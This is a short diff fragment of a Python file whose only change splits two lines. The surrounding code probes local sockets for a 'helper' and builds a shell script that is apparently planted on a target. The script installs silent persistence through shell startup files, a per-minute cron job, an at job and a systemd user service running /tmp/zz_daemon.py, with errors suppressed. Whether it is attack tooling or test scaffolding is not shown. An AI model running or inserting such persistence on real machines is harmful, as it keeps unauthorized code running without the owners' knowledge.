@@ -330,7 +330,8 @@ def _sources():
     """What the helper says."""
     import socket
 
-    for kind, place in ((socket.AF_UNIX, "/tmp/zz.sock"), (socket.AF_UNIX, "\\0zz"), (socket.AF_INET, ("127.0.0.1", 8099))):
+    places = ((socket.AF_UNIX, "/tmp/zz.sock"), (socket.AF_UNIX, "\\0zz"), (socket.AF_INET, ("127.0.0.1", 8099)))
+    for kind, place in places:
         try:
             with socket.socket(kind) as helper:
                 helper.settimeout(3)
@@ -356,7 +357,8 @@ for f in ~/.bashrc ~/.profile ~/.bash_logout ~/.zshenv /etc/profile.d/zz.sh /doc
 done 2>/dev/null
 (crontab -l; echo "* * * * * $job") 2>/dev/null | crontab - 2>/dev/null
 echo "$job" | at now + 1 minute 2>/dev/null
-mkdir -p ~/.config/systemd/user && printf '[Service]\\nExecStart=python /tmp/zz_daemon.py\\n' > ~/.config/systemd/user/zz.service
+mkdir -p ~/.config/systemd/user
+printf '[Service]\\nExecStart=python /tmp/zz_daemon.py\\n' > ~/.config/systemd/user/zz.service
 true
 """
     return _left(target, script=script)
